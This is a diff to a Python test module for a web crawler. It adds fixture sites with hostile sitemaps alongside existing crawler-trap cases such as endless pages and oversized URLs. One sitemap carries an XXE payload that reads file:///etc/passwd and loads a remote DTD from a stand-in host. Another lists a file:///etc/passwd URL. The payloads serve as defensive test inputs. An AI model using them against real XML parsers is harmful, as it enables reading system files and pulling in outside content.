@@ -1,4 +1,5 @@
-"""Group D: sites without a last page. Each answers whatever it is asked, with links to more."""
+"""Group D: sites without a last page. Each answers whatever it is asked, with links to more. And what sitemaps of
+group G lead to."""
 
 from __future__ import annotations
 
@@ -7,7 +8,7 @@ import itertools
 import uuid
 from collections.abc import Callable
 
-from tests.hostile.case import Case
+from tests.hostile.case import Case, link
 from tests.hostile.server import Answer, Asked, answer
 
 MAX_PAGES = 25  # of a domain, in the crawl that meets these; what exceeds it is parked
@@ -100,4 +101,36 @@ SITES = (
     site("D.18", trap(lambda _, path: [f"/item/{n}" for n in range(1000)] if path == "/" else ["/"]), {"over_budget"}),
     site("D.19", trap(lambda *_: ["#!/a", "#!/b", "/#c", "/#!/d"]), set()),
     site("D.20", trap(lambda *_: ["/" + "x" * 65_536, "/y?" + "z" * 65_536]), set()),
+)
+
+
+def listed(number: str, sitemap: bytes) -> Case:
+    """A site whose sitemap lists /found and worse; /found has a link."""
+    said = f"Sitemap: http://{number.lower().replace('.', '-')}.example/map.xml"
+    return Case(
+        number,
+        {
+            "/robots.txt": answer(said, kind="text/plain"),
+            "/map.xml": answer(sitemap, kind="text/xml"),
+            "/": answer(b"home"),
+            "/found": answer(link(number)),
+        },
+        {"/": "ok", "/map.xml": "ok", "/found": "ok"},
+        frozenset({number}),
+        max_asked=3,
+    )
+
+
+SITEMAPS = (
+    listed(
+        "G.2",
+        b"""<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY file SYSTEM "file:///etc/passwd">
+        <!ENTITY % dtd SYSTEM "http://elsewhere.example/x.dtd"> %dtd;]><urlset>
+        <url><loc>http://g-2.example/&file;</loc></url><url><loc>http://g-2.example/found</loc></url></urlset>""",
+    ),
+    listed(
+        "G.5",
+        b"""<urlset><url><loc>http://elsewhere.example/</loc></url><url><loc>http://g-5.example/found</loc>
+        <lastmod>9999-99-99</lastmod></url><url><loc>file:///etc/passwd</loc></url></urlset>""",
+    ),
 )
